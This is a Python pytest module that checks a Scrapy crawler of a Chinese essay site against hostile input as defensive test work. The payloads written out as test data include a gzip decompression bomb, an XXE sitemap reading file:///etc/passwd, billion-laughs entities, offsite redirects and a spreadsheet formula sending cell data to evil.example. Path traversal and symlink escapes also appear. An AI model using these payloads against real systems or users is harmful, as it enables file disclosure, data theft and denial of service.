"""Hostile input: each case is logged with its reason and counted in the stats, the crawl
goes on, and nothing already stored is harmed.

The crawl cases run `scrapy crawl ylwt22` over real sockets through SiteProxy, most of
them as a full crawl over an archive of the whole snapshot: the site answers some
articles with something hostile, and their stored rows must come out unchanged while
every other article is fetched and seen as usual.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import html
import io
import itertools
import json
import multiprocessing
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from sqlalchemy import func, make_url, select
from warcio.warcwriter import WARCWriter

from crawler import settings as project
from crawler.checks import RULES
from crawler.pages.listing import SitemapLinks, parse_sitemap
from crawler.replay.sources import Source, read_source
from storage.db import make_engine, open_database, session_factory
from storage.models import Article, ArticleVersion
from storage.repository import upsert_articles
from tests.support.crawl import FAST, FULL_LOG, MIRROR, PROJECT_ROOT, crawl, replay, scrapy
from tests.support.pages import expected, expected_records, mirror_file
from tests.support.records import make_record
from tests.support.siteproxy import Reply, SiteProxy
from tests.support.tcpproxy import TcpProxy
from tests.test_crawl import assert_ok, stored
from tests.test_replay import stats

ALL = sorted(record["url"] for record in expected_records())
A = "http://www.ylwt22.com/yanjianggao/2023/0428/309973.html"
B = "http://www.ylwt22.com/xindetihui/2023/0912/315175.html"
C = "http://www.ylwt22.com/gongzuojihua/2024/0116/319969.html"
D = "http://www.ylwt22.com/shuzhibaogao/2023/1222/319015.html"
MULTI_PAGE = "http://www.ylwt22.com/dangtuangongzuo/2022/1220/305064.html"
HTML = {"Content-Type": "text/html"}
MIB = 1024 * 1024


# --- the archive every full crawl starts from ------------------------------------------


@pytest.fixture(scope="module")
def archived(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A SQLite archive of the whole snapshot, crawled once for the module."""
    folder = tmp_path_factory.mktemp("archived")
    database = folder / "archive.sqlite3"
    with SiteProxy(MIRROR) as site:
        assert_ok(crawl(f"sqlite:///{database}", proxy=site.url, data_dir=folder))
    return database


@pytest.fixture
def archive(archived: Path, tmp_path: Path) -> str:
    """A copy of the archive for one test."""
    for suffix in ("", "-wal", "-shm"):
        source = Path(f"{archived}{suffix}")
        if source.exists():
            shutil.copy2(source, tmp_path / f"archive.sqlite3{suffix}")
    return f"sqlite:///{tmp_path / 'archive.sqlite3'}"


@pytest.fixture
def site() -> Iterator[SiteProxy]:
    with SiteProxy(MIRROR) as proxy:
        yield proxy


def snapshot(database_url: str) -> tuple[dict[str, dict[str, Any]], int]:
    """Every stored column of every article, and how many versions are kept."""
    engine = make_engine(database_url)
    try:
        with session_factory(engine, readonly=True)() as session:
            rows = session.execute(select(Article.__table__)).mappings()
            articles = {row["url"]: dict(row) for row in rows}
            versions = session.scalar(select(func.count()).select_from(ArticleVersion)) or 0
    finally:
        engine.dispose()
    return articles, versions


def full_crawl(
    database_url: str, site: SiteProxy, tmp_path: Path, *settings: str
) -> subprocess.CompletedProcess[str]:
    return crawl(database_url, "-a", "mode=full", *settings, proxy=site.url, data_dir=tmp_path)


def assert_unharmed(
    before: tuple[dict[str, dict[str, Any]], int],
    after: tuple[dict[str, dict[str, Any]], int],
    hostile: list[str],
) -> None:
    """The hostile articles' rows are exactly as they were (not even seen again); every
    other row only has last_seen_at moved by the crawl that saw it; no version added."""
    (rows, versions), (now, versions_now) = before, after
    assert sorted(now) == sorted(rows) == ALL
    assert versions_now == versions
    for url in ALL:
        if url in hostile:
            assert now[url] == rows[url], url
        else:
            assert {**now[url], "last_seen_at": None} == {**rows[url], "last_seen_at": None}, url
            assert now[url]["last_seen_at"] > rows[url]["last_seen_at"], url


def assert_seen_others(result: subprocess.CompletedProcess[str], hostile: list[str]) -> None:
    """The crawl finished, and saw every other article again, unchanged."""
    assert_ok(result)
    assert stats(result.stderr, "database/articles_unchanged") == {
        "database/articles_unchanged": len(ALL) - len(hostile)
    }


def page(url: str) -> bytes:
    return mirror_file(url).read_bytes()


def padded(url: str, size: int) -> bytes:
    """The article's page, made ``size`` bytes long by a comment before </body>."""
    body = page(url)
    filler = b"<!--" + b"x" * (size - len(body) - 7) + b"-->"
    return body.replace(b"</body>", filler + b"</body>", 1)


# --- 1 and 2: sizes ----------------------------------------------------------------------

SMALL_LIMITS = ("-s", f"DOWNLOAD_MAXSIZE={MIB}", "-s", f"DOWNLOAD_WARNSIZE={MIB // 4}")


def gzip_of_zeros(size: int) -> bytes:
    compressor = zlib.compressobj(wbits=31)  # 31: a gzip stream
    chunk = bytes(MIB)
    return b"".join(compressor.compress(chunk) for _ in range(size // MIB)) + compressor.flush()


def test_a_decompression_bomb_is_refused_and_reported(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    bomb = gzip_of_zeros(32 * MIB)
    assert len(bomb) < MIB // 4  # small on the wire: only decompressing it is too much
    site.replies[A] = Reply(200, bomb, {**HTML, "Content-Encoding": "gzip"})
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path, *SMALL_LIMITS)
    assert_seen_others(result, [A])
    assert f"Ignored response <200 {A}> because its body ({len(bomb)} B compressed" in (
        result.stderr
    )
    assert f"exceeded DOWNLOAD_MAXSIZE ({MIB} B) during decompression" in result.stderr
    assert f"Could not fetch {A}: Ignored response" in result.stderr
    assert stats(result.stderr, "download/") == {"download/decompression_bomb": 1}
    assert stats(result.stderr, "article/fetch_failed") == {"article/fetch_failed": 1}
    assert_unharmed(before, snapshot(archive), [A])


def test_a_page_over_the_size_limit_is_refused_and_one_over_the_warning_size_kept(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    site.replies[A] = Reply(200, padded(A, 2 * MIB), HTML)
    site.replies[B] = Reply(200, padded(B, MIB // 2), HTML)
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path, *SMALL_LIMITS)
    assert_seen_others(result, [A])  # B included: its text is the same
    assert (
        f"Expected to receive {2 * MIB} bytes which is larger than download max size ({MIB})"
        f" in request <GET {A}>" in result.stderr
    )
    assert (
        f"Expected to receive {MIB // 2} bytes which is larger than download warn size "
        f"({MIB // 4}) in request <GET {B}>" in result.stderr
    )
    assert f"Could not fetch {A}: Expected to receive" in result.stderr
    assert stats(result.stderr, "download/") == {"download/too_large": 1, "download/large": 1}
    assert_unharmed(before, snapshot(archive), [A])


# --- 3: truncated and malformed HTML --------------------------------------------------


def tag_soup(body: bytes) -> bytes:
    """The same page as sloppy HTML inside its template: paragraphs and list items left
    open, upper-case tags, unquoted attributes, entities without their ";", stray
    inline tags never closed."""
    text = body.decode("utf-8")
    head, rest = text.split('<div class="content"', 1)
    content, tail = rest.split('<div class="tags">', 1)
    content = content.replace("</p>", "").replace("<p>", "<P><font face=宋体><span>")
    content = content.replace('<p style="text-align: center;">', "<p style=text-align:center>")
    content = content.replace("&nbsp;&nbsp;", "&nbsp&nbsp")
    soup = f'{head}<div class="content"{content}<div class="tags">{tail.replace("</li>", "")}'
    return soup.encode("utf-8")


def test_a_truncated_page_is_dropped_and_tag_soup_read_as_far_as_it_goes(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    a, b, c = page(A), page(B), page(C)
    site.replies[A] = Reply(200, a[: a.index("第二，青春".encode())], HTML)  # in the body
    # After the body, before the 版权声明 and the footer: stored, it would have the whole
    # text and lose the notice without a word.
    site.replies[B] = Reply(200, b[: b.index(b'<div class="copyright">')], HTML)
    # Inside a character of the footer: the cut, not the charset, is the reason.
    cut = c.index("版权所有".encode(), c.index(b'<div class="footer">')) + 1
    site.replies[C] = Reply(200, c[:cut], HTML)
    # Page 2 of a multi-page article: the whole article is dropped, not stored half.
    second = MULTI_PAGE.replace(".html", "_2.html")
    site.replies[second] = Reply(200, page(second)[: len(page(second)) // 2], HTML)
    site.replies[D] = Reply(200, tag_soup(page(D)), HTML)
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path)
    hostile = [A, B, C, MULTI_PAGE]
    assert_seen_others(result, hostile)  # D too: the same text as stored
    assert stats(result.stderr, "drop/") == {"drop/truncated_page": 4}
    for url in (A, B, MULTI_PAGE):
        assert f"truncated_page: the page ends before its footer <{url}>" in result.stderr
    assert f"truncated_page: the page ends before its </body> or </html> <{C}>" in result.stderr
    assert_unharmed(before, snapshot(archive), hostile)


# --- 4: charsets -------------------------------------------------------------------------


def test_a_wrongly_declared_charset_is_decoded_right_and_counted_once_per_page(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    # Declared gb2312 in the page, written in UTF-8.
    site.replies[A] = Reply(200, page(A).replace(b"charset=utf-8", b"charset=gb2312"), HTML)
    # Declared UTF-8 in the header (and the page), written in GBK.
    gbk = page(B).decode("utf-8").encode("gb18030")
    site.replies[B] = Reply(200, gbk, {"Content-Type": "text/html; charset=utf-8"})
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path)
    assert_seen_others(result, [])  # A and B too: read right, their text is the same
    assert stats(result.stderr, "decode/") == {"decode/charset_mismatch": 2}
    # Once per page, at INFO; gb2312 is read as its superset, GB18030.
    logged = "\n".join(line for line in result.stderr.splitlines() if "Charset mismatch" in line)
    assert logged.count("Charset mismatch") == 2
    assert f"INFO: Charset mismatch: {A} declares gb18030 but is written in utf-8" in logged
    assert f"INFO: Charset mismatch: {B} declares utf-8 but is written in gb18030" in logged
    assert_unharmed(before, snapshot(archive), [])


# --- 5 and 6: redirects ----------------------------------------------------------------


def test_a_redirect_loop_and_a_chain_too_long_are_given_up(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    loop = "http://www.ylwt22.com/moved/309973.html"
    site.replies[A] = Reply(301, b"", {"Location": loop})
    site.replies[loop] = Reply(302, b"", {"Location": A})
    chain = [B, *(f"http://www.ylwt22.com/moved/{n}.html" for n in range(1, 9))]
    for source, target in itertools.pairwise(chain):
        site.replies[source] = Reply(302, b"", {"Location": target})
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path)
    assert_seen_others(result, [A, B])
    assert stats(result.stderr, "redirect/") == {"redirect/loop": 1, "redirect/too_many": 1}
    assert f"Gave up on {A}: redirect loop: {A} -> {loop} -> {A}" in result.stderr
    assert f"Gave up on {B}: more than 5 redirects: {' -> '.join(chain[:6])}" in result.stderr
    assert site.requests.count(A) == 1
    assert chain[6] not in site.requests  # REDIRECT_MAX_TIMES (5) followed, no more
    assert_unharmed(before, snapshot(archive), [A, B])  # not marked gone either


def test_a_redirect_to_another_site_is_not_followed(
    site: SiteProxy, archive: str, tmp_path: Path
) -> None:
    site.replies[A] = Reply(301, b"", {"Location": "http://evil.example/steal.html"})
    site.replies[B] = Reply(302, b"", {"Location": "//evil.example/no-scheme.html"})
    site.replies[C] = Reply(302, b"", {"Location": "http://www.ylwt22.com.evil.example/x.html"})
    refresh = '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh.html">'
    site.replies[D] = Reply(200, f"<html><head>{refresh}</head></html>".encode(), HTML)
    before = snapshot(archive)
    result = full_crawl(archive, site, tmp_path)
    assert_seen_others(result, [A, B, C, D])
    assert stats(result.stderr, "redirect/") == {"redirect/offsite": 4}
    assert (
        f"Gave up on {A}: redirect to another site: {A} -> http://evil.example/steal.html"
        in result.stderr
    )
    assert f"Gave up on {D}: redirect to another site: {D} -> http://evil.example/refresh.html" in (
        result.stderr
    )
    assert {urlsplit(url).hostname for url in site.requests} == {"www.ylwt22.com"}
    assert_unharmed(before, snapshot(archive), [A, B, C, D])


# --- 7: sitemaps ---------------------------------------------------------------------------


def test_entities_in_a_sitemap_are_never_expanded_or_read(
    site: SiteProxy, sqlite_url: str, tmp_path: Path
) -> None:
    # Were any of these read, the crawl would ask the site for the canary URL.
    canary = "http://www.ylwt22.com/canary/2023/0101/999999.html"
    (tmp_path / "canary.txt").write_text(canary)
    urlset = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    (tmp_path / "canary.xml").write_text(f"{urlset}<url><loc>{canary}</loc></url></urlset>")
    (tmp_path / "canary.dtd").write_text(f'<!ENTITY inner "{canary}">')
    xxe = (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{tmp_path}/canary.txt">\n'
        '<!ENTITY passwd SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY % dtd SYSTEM "file://{tmp_path}/canary.dtd"> %dtd;]>\n'
        f"{urlset}<url><loc>&xxe;</loc></url><url><loc>&passwd;</loc></url>"
        f"<url><loc>&inner;</loc></url><url><loc>{A}</loc></url></urlset>"
    )
    laughs = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 11))
    billion_laughs = (
        f'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY lol0 "lol">\n{laughs}]>\n'
        f"{urlset}<url><loc>{B}</loc></url><url><loc>&lol10;</loc></url></urlset>"
    )
    robots = page("http://www.ylwt22.com/robots.txt").decode() + (
        "Sitemap: http://www.ylwt22.com/sitemap_laughs.xml\n"
        # On the site's host, but a local file: never fetched.
        f"Sitemap: file://www.ylwt22.com{tmp_path}/canary.xml\n"
    )
    xml = {"Content-Type": "application/xml"}
    text = {"Content-Type": "text/plain"}
    site.replies["http://www.ylwt22.com/robots.txt"] = Reply(200, robots.encode(), text)
    site.replies["http://www.ylwt22.com/sitemap.xml"] = Reply(200, xxe.encode(), xml)
    site.replies["http://www.ylwt22.com/sitemap_laughs.xml"] = Reply(
        200, billion_laughs.encode(), xml
    )
    result = crawl(sqlite_url, proxy=site.url, data_dir=tmp_path)
    assert_ok(result)
    assert stats(result.stderr, "sitemap/") == {"sitemap/skipped/entities": 2}
    assert (
        "Skipped sitemap http://www.ylwt22.com/sitemap.xml: entities: its DOCTYPE declares "
        "xxe, passwd, dtd; none was read" in result.stderr
    )
    assert "Skipped sitemap http://www.ylwt22.com/sitemap_laughs.xml: entities:" in result.stderr
    assert stats(result.stderr, "download/not_http") == {"download/not_http": 1}
    assert (
        f"Refused file://www.ylwt22.com{tmp_path}/canary.xml: only http and https URLs are "
        "fetched" in result.stderr
    )
    assert not [url for url in site.requests if "canary" in url or "root:" in url]
    # The category lists lead to every article: none is missing for want of a sitemap.
    assert sorted(stored(sqlite_url)) == ALL


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"", "malformed: not XML"),
        (b"\x00\x1f\x8b binary", "malformed: not XML"),
        (page("http://www.ylwt22.com/404.html"), "malformed: <html> is not a sitemap"),
    ],
    ids=["empty", "binary", "a-soft-404-page"],
)
def test_a_sitemap_that_is_not_one_gives_no_urls_and_says_why(body: bytes, problem: str) -> None:
    # Scrapy's parser raises on some of these; the spider logs and counts the problem
    # (sitemap/skipped/malformed) like the entities above.
    assert parse_sitemap(body) == SitemapLinks((), (), problem)


# --- 8: formulas ---------------------------------------------------------------------------


def with_fields(url: str, title: str, source: str, author: str, first_tag: str) -> bytes:
    text = page(url).decode("utf-8")
    old_title = expected(url)["title"]
    escaped = html.escape(title, quote=False)
    text = text.replace(f'<h1 class="title">{old_title}</h1>', f'<h1 class="title">{escaped}</h1>')
    text = text.replace(f"<strong>{old_title}</strong>", f"<strong>{escaped}</strong>", 1)
    info_start = text.index('<div class="info">')
    info_end = text.index("</div>", info_start)
    published = f"发布时间:{expected(url)['published_at'][:19].replace('T', ' ')}"
    info = f'<div class="info">{published} | 作者:{author} | 来源:{source}'
    text = text[:info_start] + info + text[info_end:]
    tag = expected(url)["tags"][0]
    text = text.replace(f'target="_blank">{tag}</a>', f'target="_blank">{first_tag}</a>', 1)
    return text.encode("utf-8")


def test_formulas_are_stored_as_is_and_defused_only_in_csv(
    site: SiteProxy, sqlite_url: str, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    site.replies[A] = Reply(200, with_fields(A, formula, "@SUM(1+1)", "-2+3", "+1"), HTML)
    # Lines are trimmed when cleaned: a leading tab goes, the formula behind it stays.
    site.replies[B] = Reply(200, with_fields(B, "\t-1+1 心得", "+1+2", "@A1", "-"), HTML)
    result = crawl(sqlite_url, proxy=site.url, data_dir=tmp_path)
    assert_ok(result)
    rows = stored(sqlite_url)
    assert len(rows) == len(ALL)
    a, b = rows[A], rows[B]
    assert (a.title, a.source, a.author, a.tags[0]) == (formula, "@SUM(1+1)", "-2+3", "+1")
    assert a.body.startswith(formula + "\n")  # the document's own title line
    assert (b.title, b.source, b.author, b.tags[0]) == ("-1+1 心得", "+1+2", "@A1", "-")

    out = tmp_path / "articles.csv"
    assert_ok(scrapy("export", "-o", str(out), env={"DATABASE_URL": sqlite_url}))
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = {row["url"]: row for row in csv.DictReader(handle)}
    for url, row in ((A, a), (B, b)):
        for name in ("title", "source", "author", "body"):
            assert cells[url][name] == "'" + getattr(row, name), (url, name)
        assert cells[url]["tags"] == "'" + "|".join(row.tags)
    assert cells[C]["title"] == rows[C].title  # nothing else is touched

    out = tmp_path / "articles.jsonl"
    assert_ok(scrapy("export", "-o", str(out), env={"DATABASE_URL": sqlite_url}))
    records = {r["url"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    for url, row in ((A, a), (B, b)):
        for name in ("title", "source", "author", "body", "tags"):
            assert records[url][name] == getattr(row, name), (url, name)


# --- 9: replay paths -----------------------------------------------------------------------


def write_warc(path: Path, records: list[tuple[str, bytes]]) -> None:
    """Response records of ``(target URI, HTML page)``, each a whole HTTP message."""
    with path.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        for url, body in records:
            message = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + body
            record = writer.create_warc_record(
                url,
                "response",
                payload=io.BytesIO(message),
                warc_content_type="application/http; msgtype=response",
            )
            writer.write_record(record)


def test_replay_reads_nothing_outside_what_it_is_given(archive: str, tmp_path: Path) -> None:
    # An edited copy of an archived article, kept outside: were it read, it would
    # replace the stored row.
    forged = page(B).replace(expected(B)["title"].encode(), "越界读取的文章".encode())
    outside = tmp_path / "outside"
    (outside / "www.ylwt22.com/xindetihui/2023/0912").mkdir(parents=True)
    (outside / "secret.html").write_bytes(forged)
    (outside / "www.ylwt22.com/xindetihui/2023/0912/315175.html").write_bytes(forged)
    mirror = tmp_path / "mirror"
    shutil.copytree(MIRROR / "www.ylwt22.com/xindetihui", mirror / "www.ylwt22.com/xindetihui")
    # A file and a folder in the mirror that are links leading out of it.
    (mirror / "www.ylwt22.com/xindetihui/2023/0912/315176.html").symlink_to(outside / "secret.html")
    (mirror / "www.ylwt22.com/yanjianggao").symlink_to(outside / "www.ylwt22.com/xindetihui")
    # WARC records of another host, and of file: URLs, one of them on the site's host.
    warc = tmp_path / "in" / "hostile.warc.gz"
    warc.parent.mkdir()
    write_warc(
        warc,
        [
            ("http://evil.example/xindetihui/2023/0912/315175.html", forged),
            (f"file://www.ylwt22.com{outside}/secret.html", forged),
            ("file:///etc/passwd", forged),
        ],
    )
    traversal = tmp_path / "mirror" / "www.ylwt22.com" / ".." / ".." / "outside" / "secret.html"
    before = snapshot(archive)
    result = replay(archive, mirror, traversal, warc)
    assert_ok(result)
    assert stats(result.stderr, "replay/skipped/") == {
        "replay/skipped/outside_directory": 3,
        "replay/skipped/outside_site": 3,
    }
    assert f"Skipped {traversal}: outside directory (its .. leads out of a folder" in result.stderr
    assert f"315176.html: outside directory (it leads out of {mirror})" in result.stderr
    assert f"yanjianggao: outside directory (it leads out of {mirror})" in result.stderr
    assert "hostile.warc.gz: outside site (a record of file:///etc/passwd)" in result.stderr
    assert "hostile.warc.gz: outside site (a record of http://evil.example/" in result.stderr
    # The mirror's own articles replayed and found as stored; only first_seen_at widens
    # to take in their older saved copies. Nothing else changed, nothing was read.
    assert stats(result.stderr, "replay/articles/") == {"replay/articles/mirror": 3}
    (rows, versions), (now, versions_now) = before, snapshot(archive)
    assert versions_now == versions
    for url in ALL:
        if "/xindetihui/" in url:
            assert now[url]["first_seen_at"] <= rows[url]["first_seen_at"]
            now[url]["first_seen_at"] = rows[url]["first_seen_at"]
        assert now[url] == rows[url], url


# --- 10: the database going away ---------------------------------------------------------


class HoldingSite(SiteProxy):
    """Holds its answers to some URLs until released: their requests are in flight, so
    by then the crawl has asked for every article it will fetch."""

    def __init__(self, mirror: Path, held: list[str]) -> None:
        super().__init__(mirror)
        self.held = frozenset(held)
        self.arrived: set[str] = set()
        self._released = threading.Event()

    def answer(self, url: str, headers: dict[str, str] | None = None) -> Reply:
        if url in self.held:
            self.arrived.add(url)
            self._released.wait()
        return super().answer(url, headers)

    def release(self) -> None:
        self._released.set()


class WatchedCrawl:
    """`scrapy crawl ylwt22`, its log read line by line while it runs."""

    def __init__(self, database_url: str, proxy: str, *settings: str) -> None:
        env = {**os.environ, "PYTHONUNBUFFERED": "1", "DATABASE_URL": database_url,
               "http_proxy": proxy, "no_proxy": "", "NO_PROXY": ""}  # fmt: skip
        # A held answer may wait as long as the test needs (a day, here).
        args = ["crawl", "ylwt22", *FAST, "-s", "LOG_LEVEL=DEBUG", "-s", "DOWNLOAD_TIMEOUT=86400",
                *settings]  # fmt: skip
        self.process = subprocess.Popen(
            [sys.executable, "-m", "scrapy", *args],
            cwd=PROJECT_ROOT,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        self.lines: list[str] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        assert self.process.stderr is not None
        for line in self.process.stderr:
            self.lines.append(line.rstrip("\n"))

    def count(self, text: str) -> int:
        return sum(text in line for line in list(self.lines))

    def wait_until(self, condition: Callable[[], bool]) -> None:
        """Until ``condition`` holds, however long the crawl takes; not past its end."""
        while not condition():
            assert self.process.poll() is None, "\n".join(self.lines[-40:])
            time.sleep(0.05)

    def finish(self) -> tuple[int, str]:
        returncode = self.process.wait()
        self._reader.join()
        return returncode, "\n".join(self.lines)

    def kill(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()


HELD = [A, B, C, D]


def cut_when_only_the_held_are_left(run: WatchedCrawl, site: HoldingSite, tcp: TcpProxy) -> None:
    """Once every other article is stored (each logged as scraped after its write) and
    the held ones are asked for, the database goes away; then they are answered."""
    others = len(ALL) - len(HELD)
    run.wait_until(lambda: run.count("Scraped from") == others and site.arrived == site.held)
    tcp.cut()
    site.release()


def spilled(folder: Path) -> list[dict[str, Any]]:
    files = sorted(folder.glob("*.jsonl"))
    return [json.loads(line) for f in files for line in f.read_text("utf-8").splitlines()]


@pytest.mark.postgres
@pytest.mark.parametrize("batch", [1, 5], ids=["the-next-write-fails", "the-last-write-fails"])
def test_when_the_database_goes_away_mid_crawl_every_article_is_stored_or_spilled(
    pg_url: str, tmp_path: Path, batch: int
) -> None:
    """With batches of 1 the next write fails while the crawl runs; with batches of 5
    the last 4 articles wait for the write made as the crawl closes, and that fails."""
    database = make_url(pg_url)
    with (
        HoldingSite(MIRROR, HELD) as site,
        TcpProxy(database.host or "127.0.0.1", database.port or 5432) as tcp,
    ):
        run = WatchedCrawl(
            tcp.url_for(pg_url), site.url,
            "-s", f"DATABASE_BATCH_SIZE={batch}", "-s", "DATABASE_FLUSH_INTERVAL=3600",
            "-s", "DATABASE_WRITE_RETRIES=2", "-s", "DATABASE_RETRY_BACKOFF=0.1",
            "-s", f"DATABASE_SPILL_DIR={tmp_path / 'unsaved'}", "-s", "WARC_ENABLED=False",
        )  # fmt: skip
        try:
            cut_when_only_the_held_are_left(run, site, tcp)
            assert len(stored(pg_url)) == len(ALL) - len(HELD)
            returncode, log = run.finish()
        finally:
            site.release()
            run.kill()
    assert returncode == 1, log[-4000:]
    errors = [line for line in log.splitlines() if line.startswith("error:")]
    assert errors == [log.splitlines()[-1]]
    assert errors[0].startswith("error: the crawl ended with 'database_error': OperationalError: ")
    assert "Connection refused" in errors[0]
    assert stats(log, "database/articles_unsaved") == {"database/articles_unsaved": len(HELD)}

    rows = stored(pg_url)
    saved = spilled(tmp_path / "unsaved")
    assert sorted(rows) == sorted(set(ALL) - set(HELD))  # as stored before the cut
    assert sorted(r["url"] for r in saved) == sorted(HELD)  # nothing lost, nothing twice
    for record in saved:  # every field, ready to be loaded again
        assert record["title"] == expected(record["url"])["title"]
        assert record["body"] == expected(record["url"])["body"]
        assert base64.b64decode(record["signature"])
    for url, row in rows.items():
        assert row.body == expected(url)["body"]


@pytest.mark.postgres
def test_a_short_cut_is_outlasted_by_the_write_retries(pg_url: str, tmp_path: Path) -> None:
    database = make_url(pg_url)
    with (
        HoldingSite(MIRROR, HELD) as site,
        TcpProxy(database.host or "127.0.0.1", database.port or 5432) as tcp,
    ):
        # Retries enough for the test to see the first one and restore the connection.
        run = WatchedCrawl(
            tcp.url_for(pg_url), site.url,
            "-s", "DATABASE_BATCH_SIZE=1", "-s", "DATABASE_WRITE_RETRIES=10",
            "-s", "DATABASE_RETRY_BACKOFF=0.2",
            "-s", f"DATABASE_SPILL_DIR={tmp_path / 'unsaved'}", "-s", "WARC_ENABLED=False",
        )  # fmt: skip
        try:
            cut_when_only_the_held_are_left(run, site, tcp)
            run.wait_until(lambda: run.count("Database write of 1 articles failed") > 0)
            tcp.restore()
            returncode, log = run.finish()
        finally:
            site.release()
            run.kill()
    assert returncode == 0, log[-4000:]
    assert "retry 1/10" in log
    assert sorted(stored(pg_url)) == ALL
    assert not (tmp_path / "unsaved").exists()


# --- 11: several SQLite writers ------------------------------------------------------------


def test_four_replays_into_one_sqlite_file_at_once(sqlite_url: str) -> None:
    env = {**os.environ, "DATABASE_URL": sqlite_url}
    processes = [
        subprocess.Popen(
            [sys.executable, "-m", "scrapy", "replay", *FULL_LOG, str(MIRROR)],
            cwd=PROJECT_ROOT,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(4)
    ]
    outputs = [process.communicate() for process in processes]
    for process, (_, stderr) in zip(processes, outputs, strict=True):
        assert process.returncode == 0, stderr[-4000:]
        assert "locked" not in stderr
    # Each article stored once, by one of them; the others found it unchanged.
    new = [stats(stderr, "database/articles_new") for _, stderr in outputs]
    assert sum(n.get("database/articles_new", 0) for n in new) == len(ALL)
    rows, versions = snapshot(sqlite_url)
    assert sorted(rows) == ALL
    assert versions == len(ALL)


def _write_articles(database_url: str, urls: list[str], start: Any, out: Any) -> None:
    """One writer process: each article in its own transaction, with a read after it."""
    start.wait()
    engine = open_database(database_url)
    errors = []
    for url in urls:
        aid = int(url.rsplit("/", 1)[1].removesuffix(".html"))
        body = f"第{aid}号文章的正文。" * 5
        record = make_record(url, aid=aid, body=body, content_hash=f"{aid:064d}", page_urls=(url,))
        try:
            with session_factory(engine).begin() as session:
                upsert_articles(session, [record])
            with session_factory(engine, readonly=True)() as session:
                session.scalar(select(func.count()).select_from(Article))
        except Exception as exc:
            errors.append(f"{type(exc).__name__}: {exc}")
    engine.dispose()
    out.put(errors)


def test_four_processes_write_one_sqlite_file_through_the_storage_api(sqlite_url: str) -> None:
    urls = [f"http://www.ylwt22.com/gongzuozongjie/2024/0101/{400000 + n}.html" for n in range(40)]
    context = multiprocessing.get_context("spawn")
    start, out = context.Barrier(4), context.Queue()
    # All four store the same articles, each in another order, from a new file.
    orders = [urls, urls[::-1], urls[::2] + urls[1::2], urls[1::2] + urls[::2]]
    workers = [
        context.Process(target=_write_articles, args=(sqlite_url, order, start, out))
        for order in orders
    ]
    for worker in workers:
        worker.start()
    errors = [out.get() for _ in workers]
    for worker in workers:
        worker.join()
        assert worker.exitcode == 0
    assert errors == [[], [], [], []]
    rows, versions = snapshot(sqlite_url)
    assert sorted(rows) == sorted(urls)
    assert versions == len(urls)


# --- 12: saved pages too large, or that expand too much, in a replay ---------------------


def write_warc_responses(path: Path, records: list[tuple[str, bytes, dict[str, str]]]) -> None:
    """Response records of ``(target URI, HTTP body as sent, its headers)``."""
    with path.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        for url, body, headers in records:
            head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
            message = f"HTTP/1.1 200 OK\r\n{head}\r\n".encode() + body
            record = writer.create_warc_record(
                url,
                "response",
                payload=io.BytesIO(message),
                warc_content_type="application/http; msgtype=response",
            )
            writer.write_record(record)


# Runs the command after it, and reports the most memory it ever held (kB) on stderr.
PEAK_MEMORY = (
    sys.executable,
    "-c",
    "import resource, subprocess, sys; status = subprocess.run(sys.argv[1:]).returncode; "
    "print('peak memory', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, "
    "file=sys.stderr); sys.exit(status)",
)


def test_replay_holds_saved_pages_to_the_crawl_size_limits(sqlite_url: str, tmp_path: Path) -> None:
    bomb = gzip_of_zeros(256 * MIB)  # about 250 KB, expanding to 256 MiB
    warc = tmp_path / "in" / "hostile.warc.gz"
    warc.parent.mkdir()
    gzipped = {**HTML, "Content-Encoding": "gzip"}
    write_warc_responses(
        warc,
        [
            (A, bomb, gzipped),
            (B, padded(B, 2 * MIB), HTML),  # over the limit as stored
            (C, zlib.compress(page(C), wbits=31), gzipped),  # compressed, and fine
            (D, page(D), HTML),
        ],
    )
    big_text = tmp_path / "in" / "big.txt"  # a saved text page over the limit: not read
    big_text.write_bytes(b"x" * (2 * MIB))
    result = scrapy(
        "replay", *SMALL_LIMITS, str(warc), str(big_text),
        env={"DATABASE_URL": sqlite_url}, wrapper=PEAK_MEMORY,
    )  # fmt: skip
    assert_ok(result)
    assert stats(result.stderr, "download/") == {
        "download/decompression_bomb": 1,
        "download/too_large": 1,
    }
    assert stats(result.stderr, "replay/skipped/") == {"replay/skipped/too_large": 1}
    assert f"Could not fetch {A}: its body ({len(bomb)} B compressed, " in result.stderr
